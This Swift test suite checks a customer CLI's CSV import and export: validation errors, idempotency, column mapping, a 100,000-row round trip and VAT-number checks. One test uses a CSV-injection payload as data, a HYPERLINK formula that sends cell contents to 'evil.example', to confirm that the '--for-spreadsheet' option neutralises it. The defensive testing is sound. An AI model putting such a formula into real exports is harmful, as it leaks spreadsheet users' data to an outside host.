import CustomerClient
import Foundation
import Testing

/// `customerctl customers import` and `export` against a real server: CSV files on disk, the
/// binary run as a person would run it.
@Suite struct CustomerImportCommandLineTests {
    func ctl(_ server: TestServer, _ arguments: String...) async throws -> ProcessResult {
        try await runProduct("customerctl", ["--socket", server.socketPath] + arguments)
    }

    /// A command over all 100 000 customers: bound by the 600 s its `--timeout` gives the call, not
    /// the default wait (a debug-build customerctl parsing or writing 100 000 CSV rows took ~300 s
    /// on a loaded machine).
    func longCtl(_ server: TestServer, _ arguments: String...) async throws -> ProcessResult {
        try await runProduct("customerctl", ["--socket", server.socketPath, "--timeout", "600"] + arguments, within: 660)
    }

    /// Writes `text` to a file in the server's directory and returns its path.
    func file(_ server: TestServer, _ name: String, _ text: String, bom: Bool = false) throws -> String {
        let path = server.directory.appendingPathComponent(name).path
        try Data((bom ? [0xEF, 0xBB, 0xBF] : []) + Array(text.utf8)).write(to: URL(fileURLWithPath: path))
        return path
    }

    func allCustomers(_ client: CustomerClient) async throws -> [Customer] {
        try await client.customers.list(CustomerQuery(status: .all), limit: 1000).customers
    }

    static let mixed = """
        name,country,vatNumber,email,address.street1,address.city,address.country,contact.firstName,contact.email\r
        Acme Oy,FI,FI01120389,info@acme.fi,Keilalahdentie 4,Espoo,FI,Aino,aino@acme.fi\r
        ,FI,,,,,,,\r
        Beta AS,NO,,not-an-email,,,,,\r
        Gamma GmbH,DE,,,Hauptstr. 1,Berlin,XX,,\r
        Delta Oy,FI,,,,,,,\r

        """

    @Test func aDryRunReportsEveryBadRowByLineAndFieldAndWritesNothing() async throws {
        try await withServer { server, client in
            let path = try file(server, "mixed.csv", Self.mixed)
            let run = try await ctl(server, "customers", "import", path, "--dry-run")
            #expect(run.status == 13, "\(run.stderr)")
            #expect(run.stdout == """
                Dry run: 5 rows checked; 3 rows rejected:
                line 3: name: must be 1 to 200 characters after trimming
                line 4: email: must be an address like name@example.com
                line 5: address.country: must be an assigned ISO 3166-1 alpha-2 code
                Nothing was written.

                """)
            #expect(run.stderr == "Error: INVALID_ARGUMENT: 3 of 5 rows were rejected\n")
            #expect(try await allCustomers(client).isEmpty)
        }
    }

    @Test func oneBadRowRefusesTheWholeImport() async throws {
        try await withServer { server, client in
            let path = try file(server, "mixed.csv", Self.mixed)
            let run = try await ctl(server, "customers", "import", path)
            #expect(run.status == 13)
            #expect(run.stderr == """
                line 3: name: must be 1 to 200 characters after trimming
                line 4: email: must be an address like name@example.com
                line 5: address.country: must be an assigned ISO 3166-1 alpha-2 code
                Error: INVALID_ARGUMENT: line 3: name: must be 1 to 200 characters after trimming \
                (3 of 5 rows are invalid and nothing was imported)

                """)
            #expect(try await allCustomers(client).isEmpty)
        }
    }

    @Test func continueOnErrorWritesTheGoodRowsWithAddressAndContact() async throws {
        try await withServer { server, client in
            let path = try file(server, "mixed.csv", Self.mixed)
            let run = try await ctl(server, "customers", "import", path, "--continue-on-error")
            #expect(run.status == 13)
            #expect(run.stdout.hasPrefix("Imported 2 customers; 3 rows rejected:\nline 3: name: must be 1 to 200 characters after trimming\n"))
            let customers = try await allCustomers(client)
            #expect(customers.map(\.name) == ["Acme Oy", "Delta Oy"])
            let acme = try await client.customers.get(id: customers[0].id)
            #expect(acme.headOffice?.oneLine == "Keilalahdentie 4, Espoo, FI")
            #expect(try await client.contacts.list(customerID: acme.id).map(\.email) == ["aino@acme.fi"])
            // History says where the records came from.
            let history = try await client.history.list(.customer, id: acme.id)
            #expect(!history.isEmpty && history.allSatisfy { $0.source == "import" })
            // JSON Lines export: the same columns, only those with a value, as strings.
            let jsonl = try await ctl(server, "customers", "export")
            let first = try JSONDecoder().decode([String: String].self, from: Data(jsonl.stdout.prefix { $0 != "\n" }.utf8))
            #expect(first == [
                "number": String(acme.number), "name": "Acme Oy", "country": "FI", "vatNumber": "FI01120389",
                "email": "info@acme.fi", "address.street1": "Keilalahdentie 4", "address.city": "Espoo",
                "address.country": "FI", "address.kind": "visiting", "contact.firstName": "Aino",
                "contact.email": "aino@acme.fi", "businessId": "0112038-9",
            ])
        }
    }

    @Test func semicolonsBOMQuotesAndMappedColumns() async throws {
        try await withServer { server, client in
            let path = try file(server, "asiakkaat.csv", """
                Nimi;Maa;Kuvaus;Y-tunnus\r
                "Mäkelä; Oy";fi;"kaksi
                riviä \"\"lainattu\"\"\";0112038-9\r

                """, bom: true)
            let run = try await ctl(server, "customers", "import", path, "--delimiter", ";", "--map", "Nimi=name",
                                    "--map", "Maa=country", "--map", "Kuvaus=description", "--map", "Y-tunnus=vatNumber")
            #expect(run.status == 0, "\(run.stderr)")
            #expect(run.stdout == "Imported 1 customer.\n")
            let customer = try #require(try await allCustomers(client).first)
            #expect(customer.name == "Mäkelä; Oy")
            #expect(customer.country == "FI")
            #expect(customer.vatNumber == "FI01120389")
            #expect(customer.description == "kaksi\nriviä \"lainattu\"")
        }
    }

    @Test func aRetriedImportWithTheSameKeyIsNotDoneTwice() async throws {
        try await withServer { server, client in
            let path = try file(server, "two.csv", "name\nAcme Oy\nBeta AS\n")
            let first = try await ctl(server, "--idempotency-key", "import-1", "customers", "import", path)
            #expect(first.status == 0, "\(first.stderr)")
            let again = try await ctl(server, "--idempotency-key", "import-1", "customers", "import", path)
            #expect(again.status == 0, "\(again.stderr)")
            #expect(again.stdout == first.stdout)
            #expect(try await allCustomers(client).count == 2)
            // The same key for another file is refused and changes nothing.
            let other = try file(server, "three.csv", "name\nGamma\n")
            let refused = try await ctl(server, "--idempotency-key", "import-1", "customers", "import", other)
            #expect(refused.status == 19, "\(refused.stderr)")
            #expect(refused.stderr.contains("idempotency-key"), "\(refused.stderr)")
            #expect(try await allCustomers(client).count == 2)
        }
    }

    @Test func badFilesAndOptionsAreUsageErrorsOrNameTheLine() async throws {
        try await withServer { server, _ in
            let unknown = try file(server, "unknown.csv", "name,Nimi\nAcme,x\n")
            let column = try await ctl(server, "customers", "import", unknown)
            #expect(column.status == 64)
            #expect(column.stderr.hasPrefix("Error: column 'Nimi' is no field; name it with --map 'Nimi=FIELD'"))
            let broken = try file(server, "broken.csv", "name\n\"Acme\n")
            let quote = try await ctl(server, "customers", "import", broken)
            #expect(quote.status == 1)
            #expect(quote.stderr == "Error: line 2: a quoted field is not closed before the end of the file\n")
            let delimiter = try await ctl(server, "customers", "import", broken, "--delimiter", "ab")
            #expect(delimiter.status == 64)
        }
    }

    /// A cell a spreadsheet would run as a formula ("=HYPERLINK(…)", "@SUM(…)", "+…", "-…") is
    /// exported as stored, so the file imports again unchanged, unless `--for-spreadsheet` asks
    /// for a `'` in front of it (OWASP's advice for CSV injection).
    @Test func anExportForASpreadsheetPrefixesCellsThatWouldRunAsFormulas() async throws {
        try await withServer { server, client in
            let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "@SUM(A1:A9)", "+358 Oy", "-Ostrava-", "Acme Oy"]
            for name in names { _ = try await client.customers.create(CustomerFields(name: name, email: "=x@acme.fi")) }
            let plain = try await ctl(server, "customers", "export", "--format", "csv", "--order", "number")
            #expect(plain.status == 0, "\(plain.stderr)")
            #expect(plain.stdout.contains(",\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\","), "\(plain.stdout)")
            #expect(plain.stdout.contains(",@SUM(A1:A9),") && plain.stdout.contains(",-Ostrava-,"))

            let safe = try await ctl(server, "customers", "export", "--format", "csv", "--order", "number", "--for-spreadsheet")
            #expect(safe.status == 0, "\(safe.stderr)")
            let rows = safe.stdout.components(separatedBy: "\r\n").dropFirst().filter { !$0.isEmpty }
            #expect(rows.count == names.count)
            #expect(rows[0].contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\","), "\(rows[0])")
            #expect(rows[1].contains(",'@SUM(A1:A9),") && rows[2].contains(",'+358 Oy,") && rows[3].contains(",'-Ostrava-,"))
            #expect(rows[4].contains(",Acme Oy,"), "a name that is no formula is left alone")
            #expect(rows.allSatisfy { $0.contains(",'=x@acme.fi,") }, "every column, not the name only")

            let json = try await ctl(server, "customers", "export", "--for-spreadsheet")
            #expect(json.status == 64)
            #expect(json.stderr.contains("--for-spreadsheet needs --format csv"), "\(json.stderr)")
        }
    }

    /// 100 000 customers (every tenth with a head office and a first contact, some of those with
    /// keywords and roles; some with a Finnish VAT number and so a business id, some with a bare
    /// Norwegian organisation number, a business id only) exported as CSV, imported into a fresh
    /// server, exported again: the same file.
    @Test func anExportImportsAgainUnchangedAt100000Customers() async throws {
        let total = 100_000
        // Ten minutes on a loaded machine (its calls and commands allow 600 s each): a bound of its own.
        try await withServer(seconds: 1_500) { first, client in
            try await Self.createLabels(client)
            let response = try await client.customers.importRecords(ImportOptions(), callOptions: CallOptions(timeout: .seconds(600))) {
                send in
                var batch: [CustomerRecord] = []
                for index in 0..<total {
                    let withChildren = index % 10 == 0
                    let norwegian = index % 50 == 25
                    batch.append(CustomerRecord(
                        line: Int64(index + 2),
                        fields: CustomerFields(
                            number: index % 3 == 0 ? Int64(500_000 + index) : nil, name: "Round \(index), \"Trip\" Oy",
                            description: index % 7 == 0 ? "two\nlines" : nil,
                            vatNumber: index % 50 == 0 ? Self.finnishVATNumber(index) : norwegian ? "923609016" : nil,
                            country: norwegian ? "NO" : "FI", email: "r\(index)@example.com"),
                        address: withChildren ? AddressFields(street1: "Katu \(index)", city: "Oulu", country: "FI", kind: .postal) : nil,
                        contact: withChildren ? ContactFields(firstName: "Aino", lastName: "R\(index)", language: "fi") : nil,
                        contactKeywords: index % 20 == 0 ? ["VIP", "Key|Account"] : [],
                        contactRoles: index % 30 == 0 ? ["Buyer"] : []))
                    if batch.count == 1_000 {
                        try await send(batch)
                        batch.removeAll(keepingCapacity: true)
                    }
                }
                try await send(batch)
            }
            #expect(response.imported == Int64(total))
            let csv = try await longCtl(first, "customers", "export", "--all", "--format", "csv")
            #expect(csv.status == 0, "\(csv.stderr)")
            #expect(csv.stdout.split(separator: "\r\n").count == total + 1)
            // The new columns carry what the store holds.
            #expect(csv.stdout.contains(",FI10000004,1000000-4,FI,"))
            #expect(csv.stdout.contains(",,923609016,NO,"))
            #expect(csv.stdout.contains(",Key\\|Account|VIP,Buyer\r\n"))
            try await withServer(seconds: 1_200) { second, copy in
                try await Self.createLabels(copy)
                let path = try file(second, "export.csv", csv.stdout)
                let imported = try await longCtl(second, "customers", "import", path)
                #expect(imported.status == 0, "\(imported.stderr)")
                #expect(imported.stdout == "Imported \(total) customers.\n")
                let again = try await longCtl(second, "customers", "export", "--all", "--format", "csv")
                #expect(again.stdout == csv.stdout)
                let sample = try await copy.customers.get(number: 500_030)
                #expect(sample.name == "Round 30, \"Trip\" Oy")
                #expect(sample.headOffice?.oneLine == "Katu 30, Oulu, FI")
                #expect(try await copy.contacts.list(customerID: sample.id).map(\.roles) == [["Buyer"]])
                let norwegian = try await copy.customers.list(CustomerQuery(search: "Round 25,"), limit: 5).customers
                #expect(norwegian.map(\.businessId) == ["923609016"] && norwegian.map(\.vatNumber) == [nil])
            }
        }
    }

    @Test func aBusinessIdThatIsNotTheOneTheVATNumberNamesIsRefused() async throws {
        try await withServer { server, client in
            let path = try file(server, "ids.csv", """
                name,country,vatNumber,businessId,contact.firstName,contact.keywords\r
                Acme Oy,FI,FI01120389,0112038-9,Aino,\r
                Beta Oy,FI,FI20774740,0112038-9,,\r
                Gamma AS,NO,,923609016,,\r
                Delta Oy,FI,,0112038-9,,\r
                Eta Oy,FI,,,,Nobody\r
                Zeta Oy,FI,,,Olli,Nobody\r

                """)
            let run = try await ctl(server, "customers", "import", path, "--dry-run")
            #expect(run.stdout == """
                Dry run: 6 rows checked; 4 rows rejected:
                line 3: businessId: is not 2077474-0, the business id the VAT number names
                line 5: businessId: is a VAT number; give it as vatNumber
                line 6: contact.keywords: needs a contact: the row's other contact columns are empty
                line 7: contact.keywords: no keyword is named 'Nobody'; create it first
                Nothing was written.

                """)
            #expect(try await allCustomers(client).isEmpty)
        }
    }

    /// Keywords and roles every copy of the round trip needs (an import assigns existing ones only).
    static func createLabels(_ client: CustomerClient) async throws {
        _ = try await client.labels.create(.keyword, name: "VIP")
        _ = try await client.labels.create(.keyword, name: "Key|Account")
        _ = try await client.labels.create(.role, name: "Buyer")
    }

    /// A valid Finnish VAT number for `index` (the business id's check digit: weights 7 9 10 5 8 4 2,
    /// mod 11; a remainder of 1 is no valid id, so such a base moves on by one).
    static func finnishVATNumber(_ index: Int) -> String {
        var base = 1_000_000 + index
        while true {
            let digits = String(base).compactMap(\.wholeNumberValue)
            let sum = zip(digits, [7, 9, 10, 5, 8, 4, 2]).map(*).reduce(0, +)
            let remainder = sum % 11
            if remainder != 1 { return "FI\(base)\(remainder == 0 ? 0 : 11 - remainder)" }
            base += 1_000_000
        }
    }
}
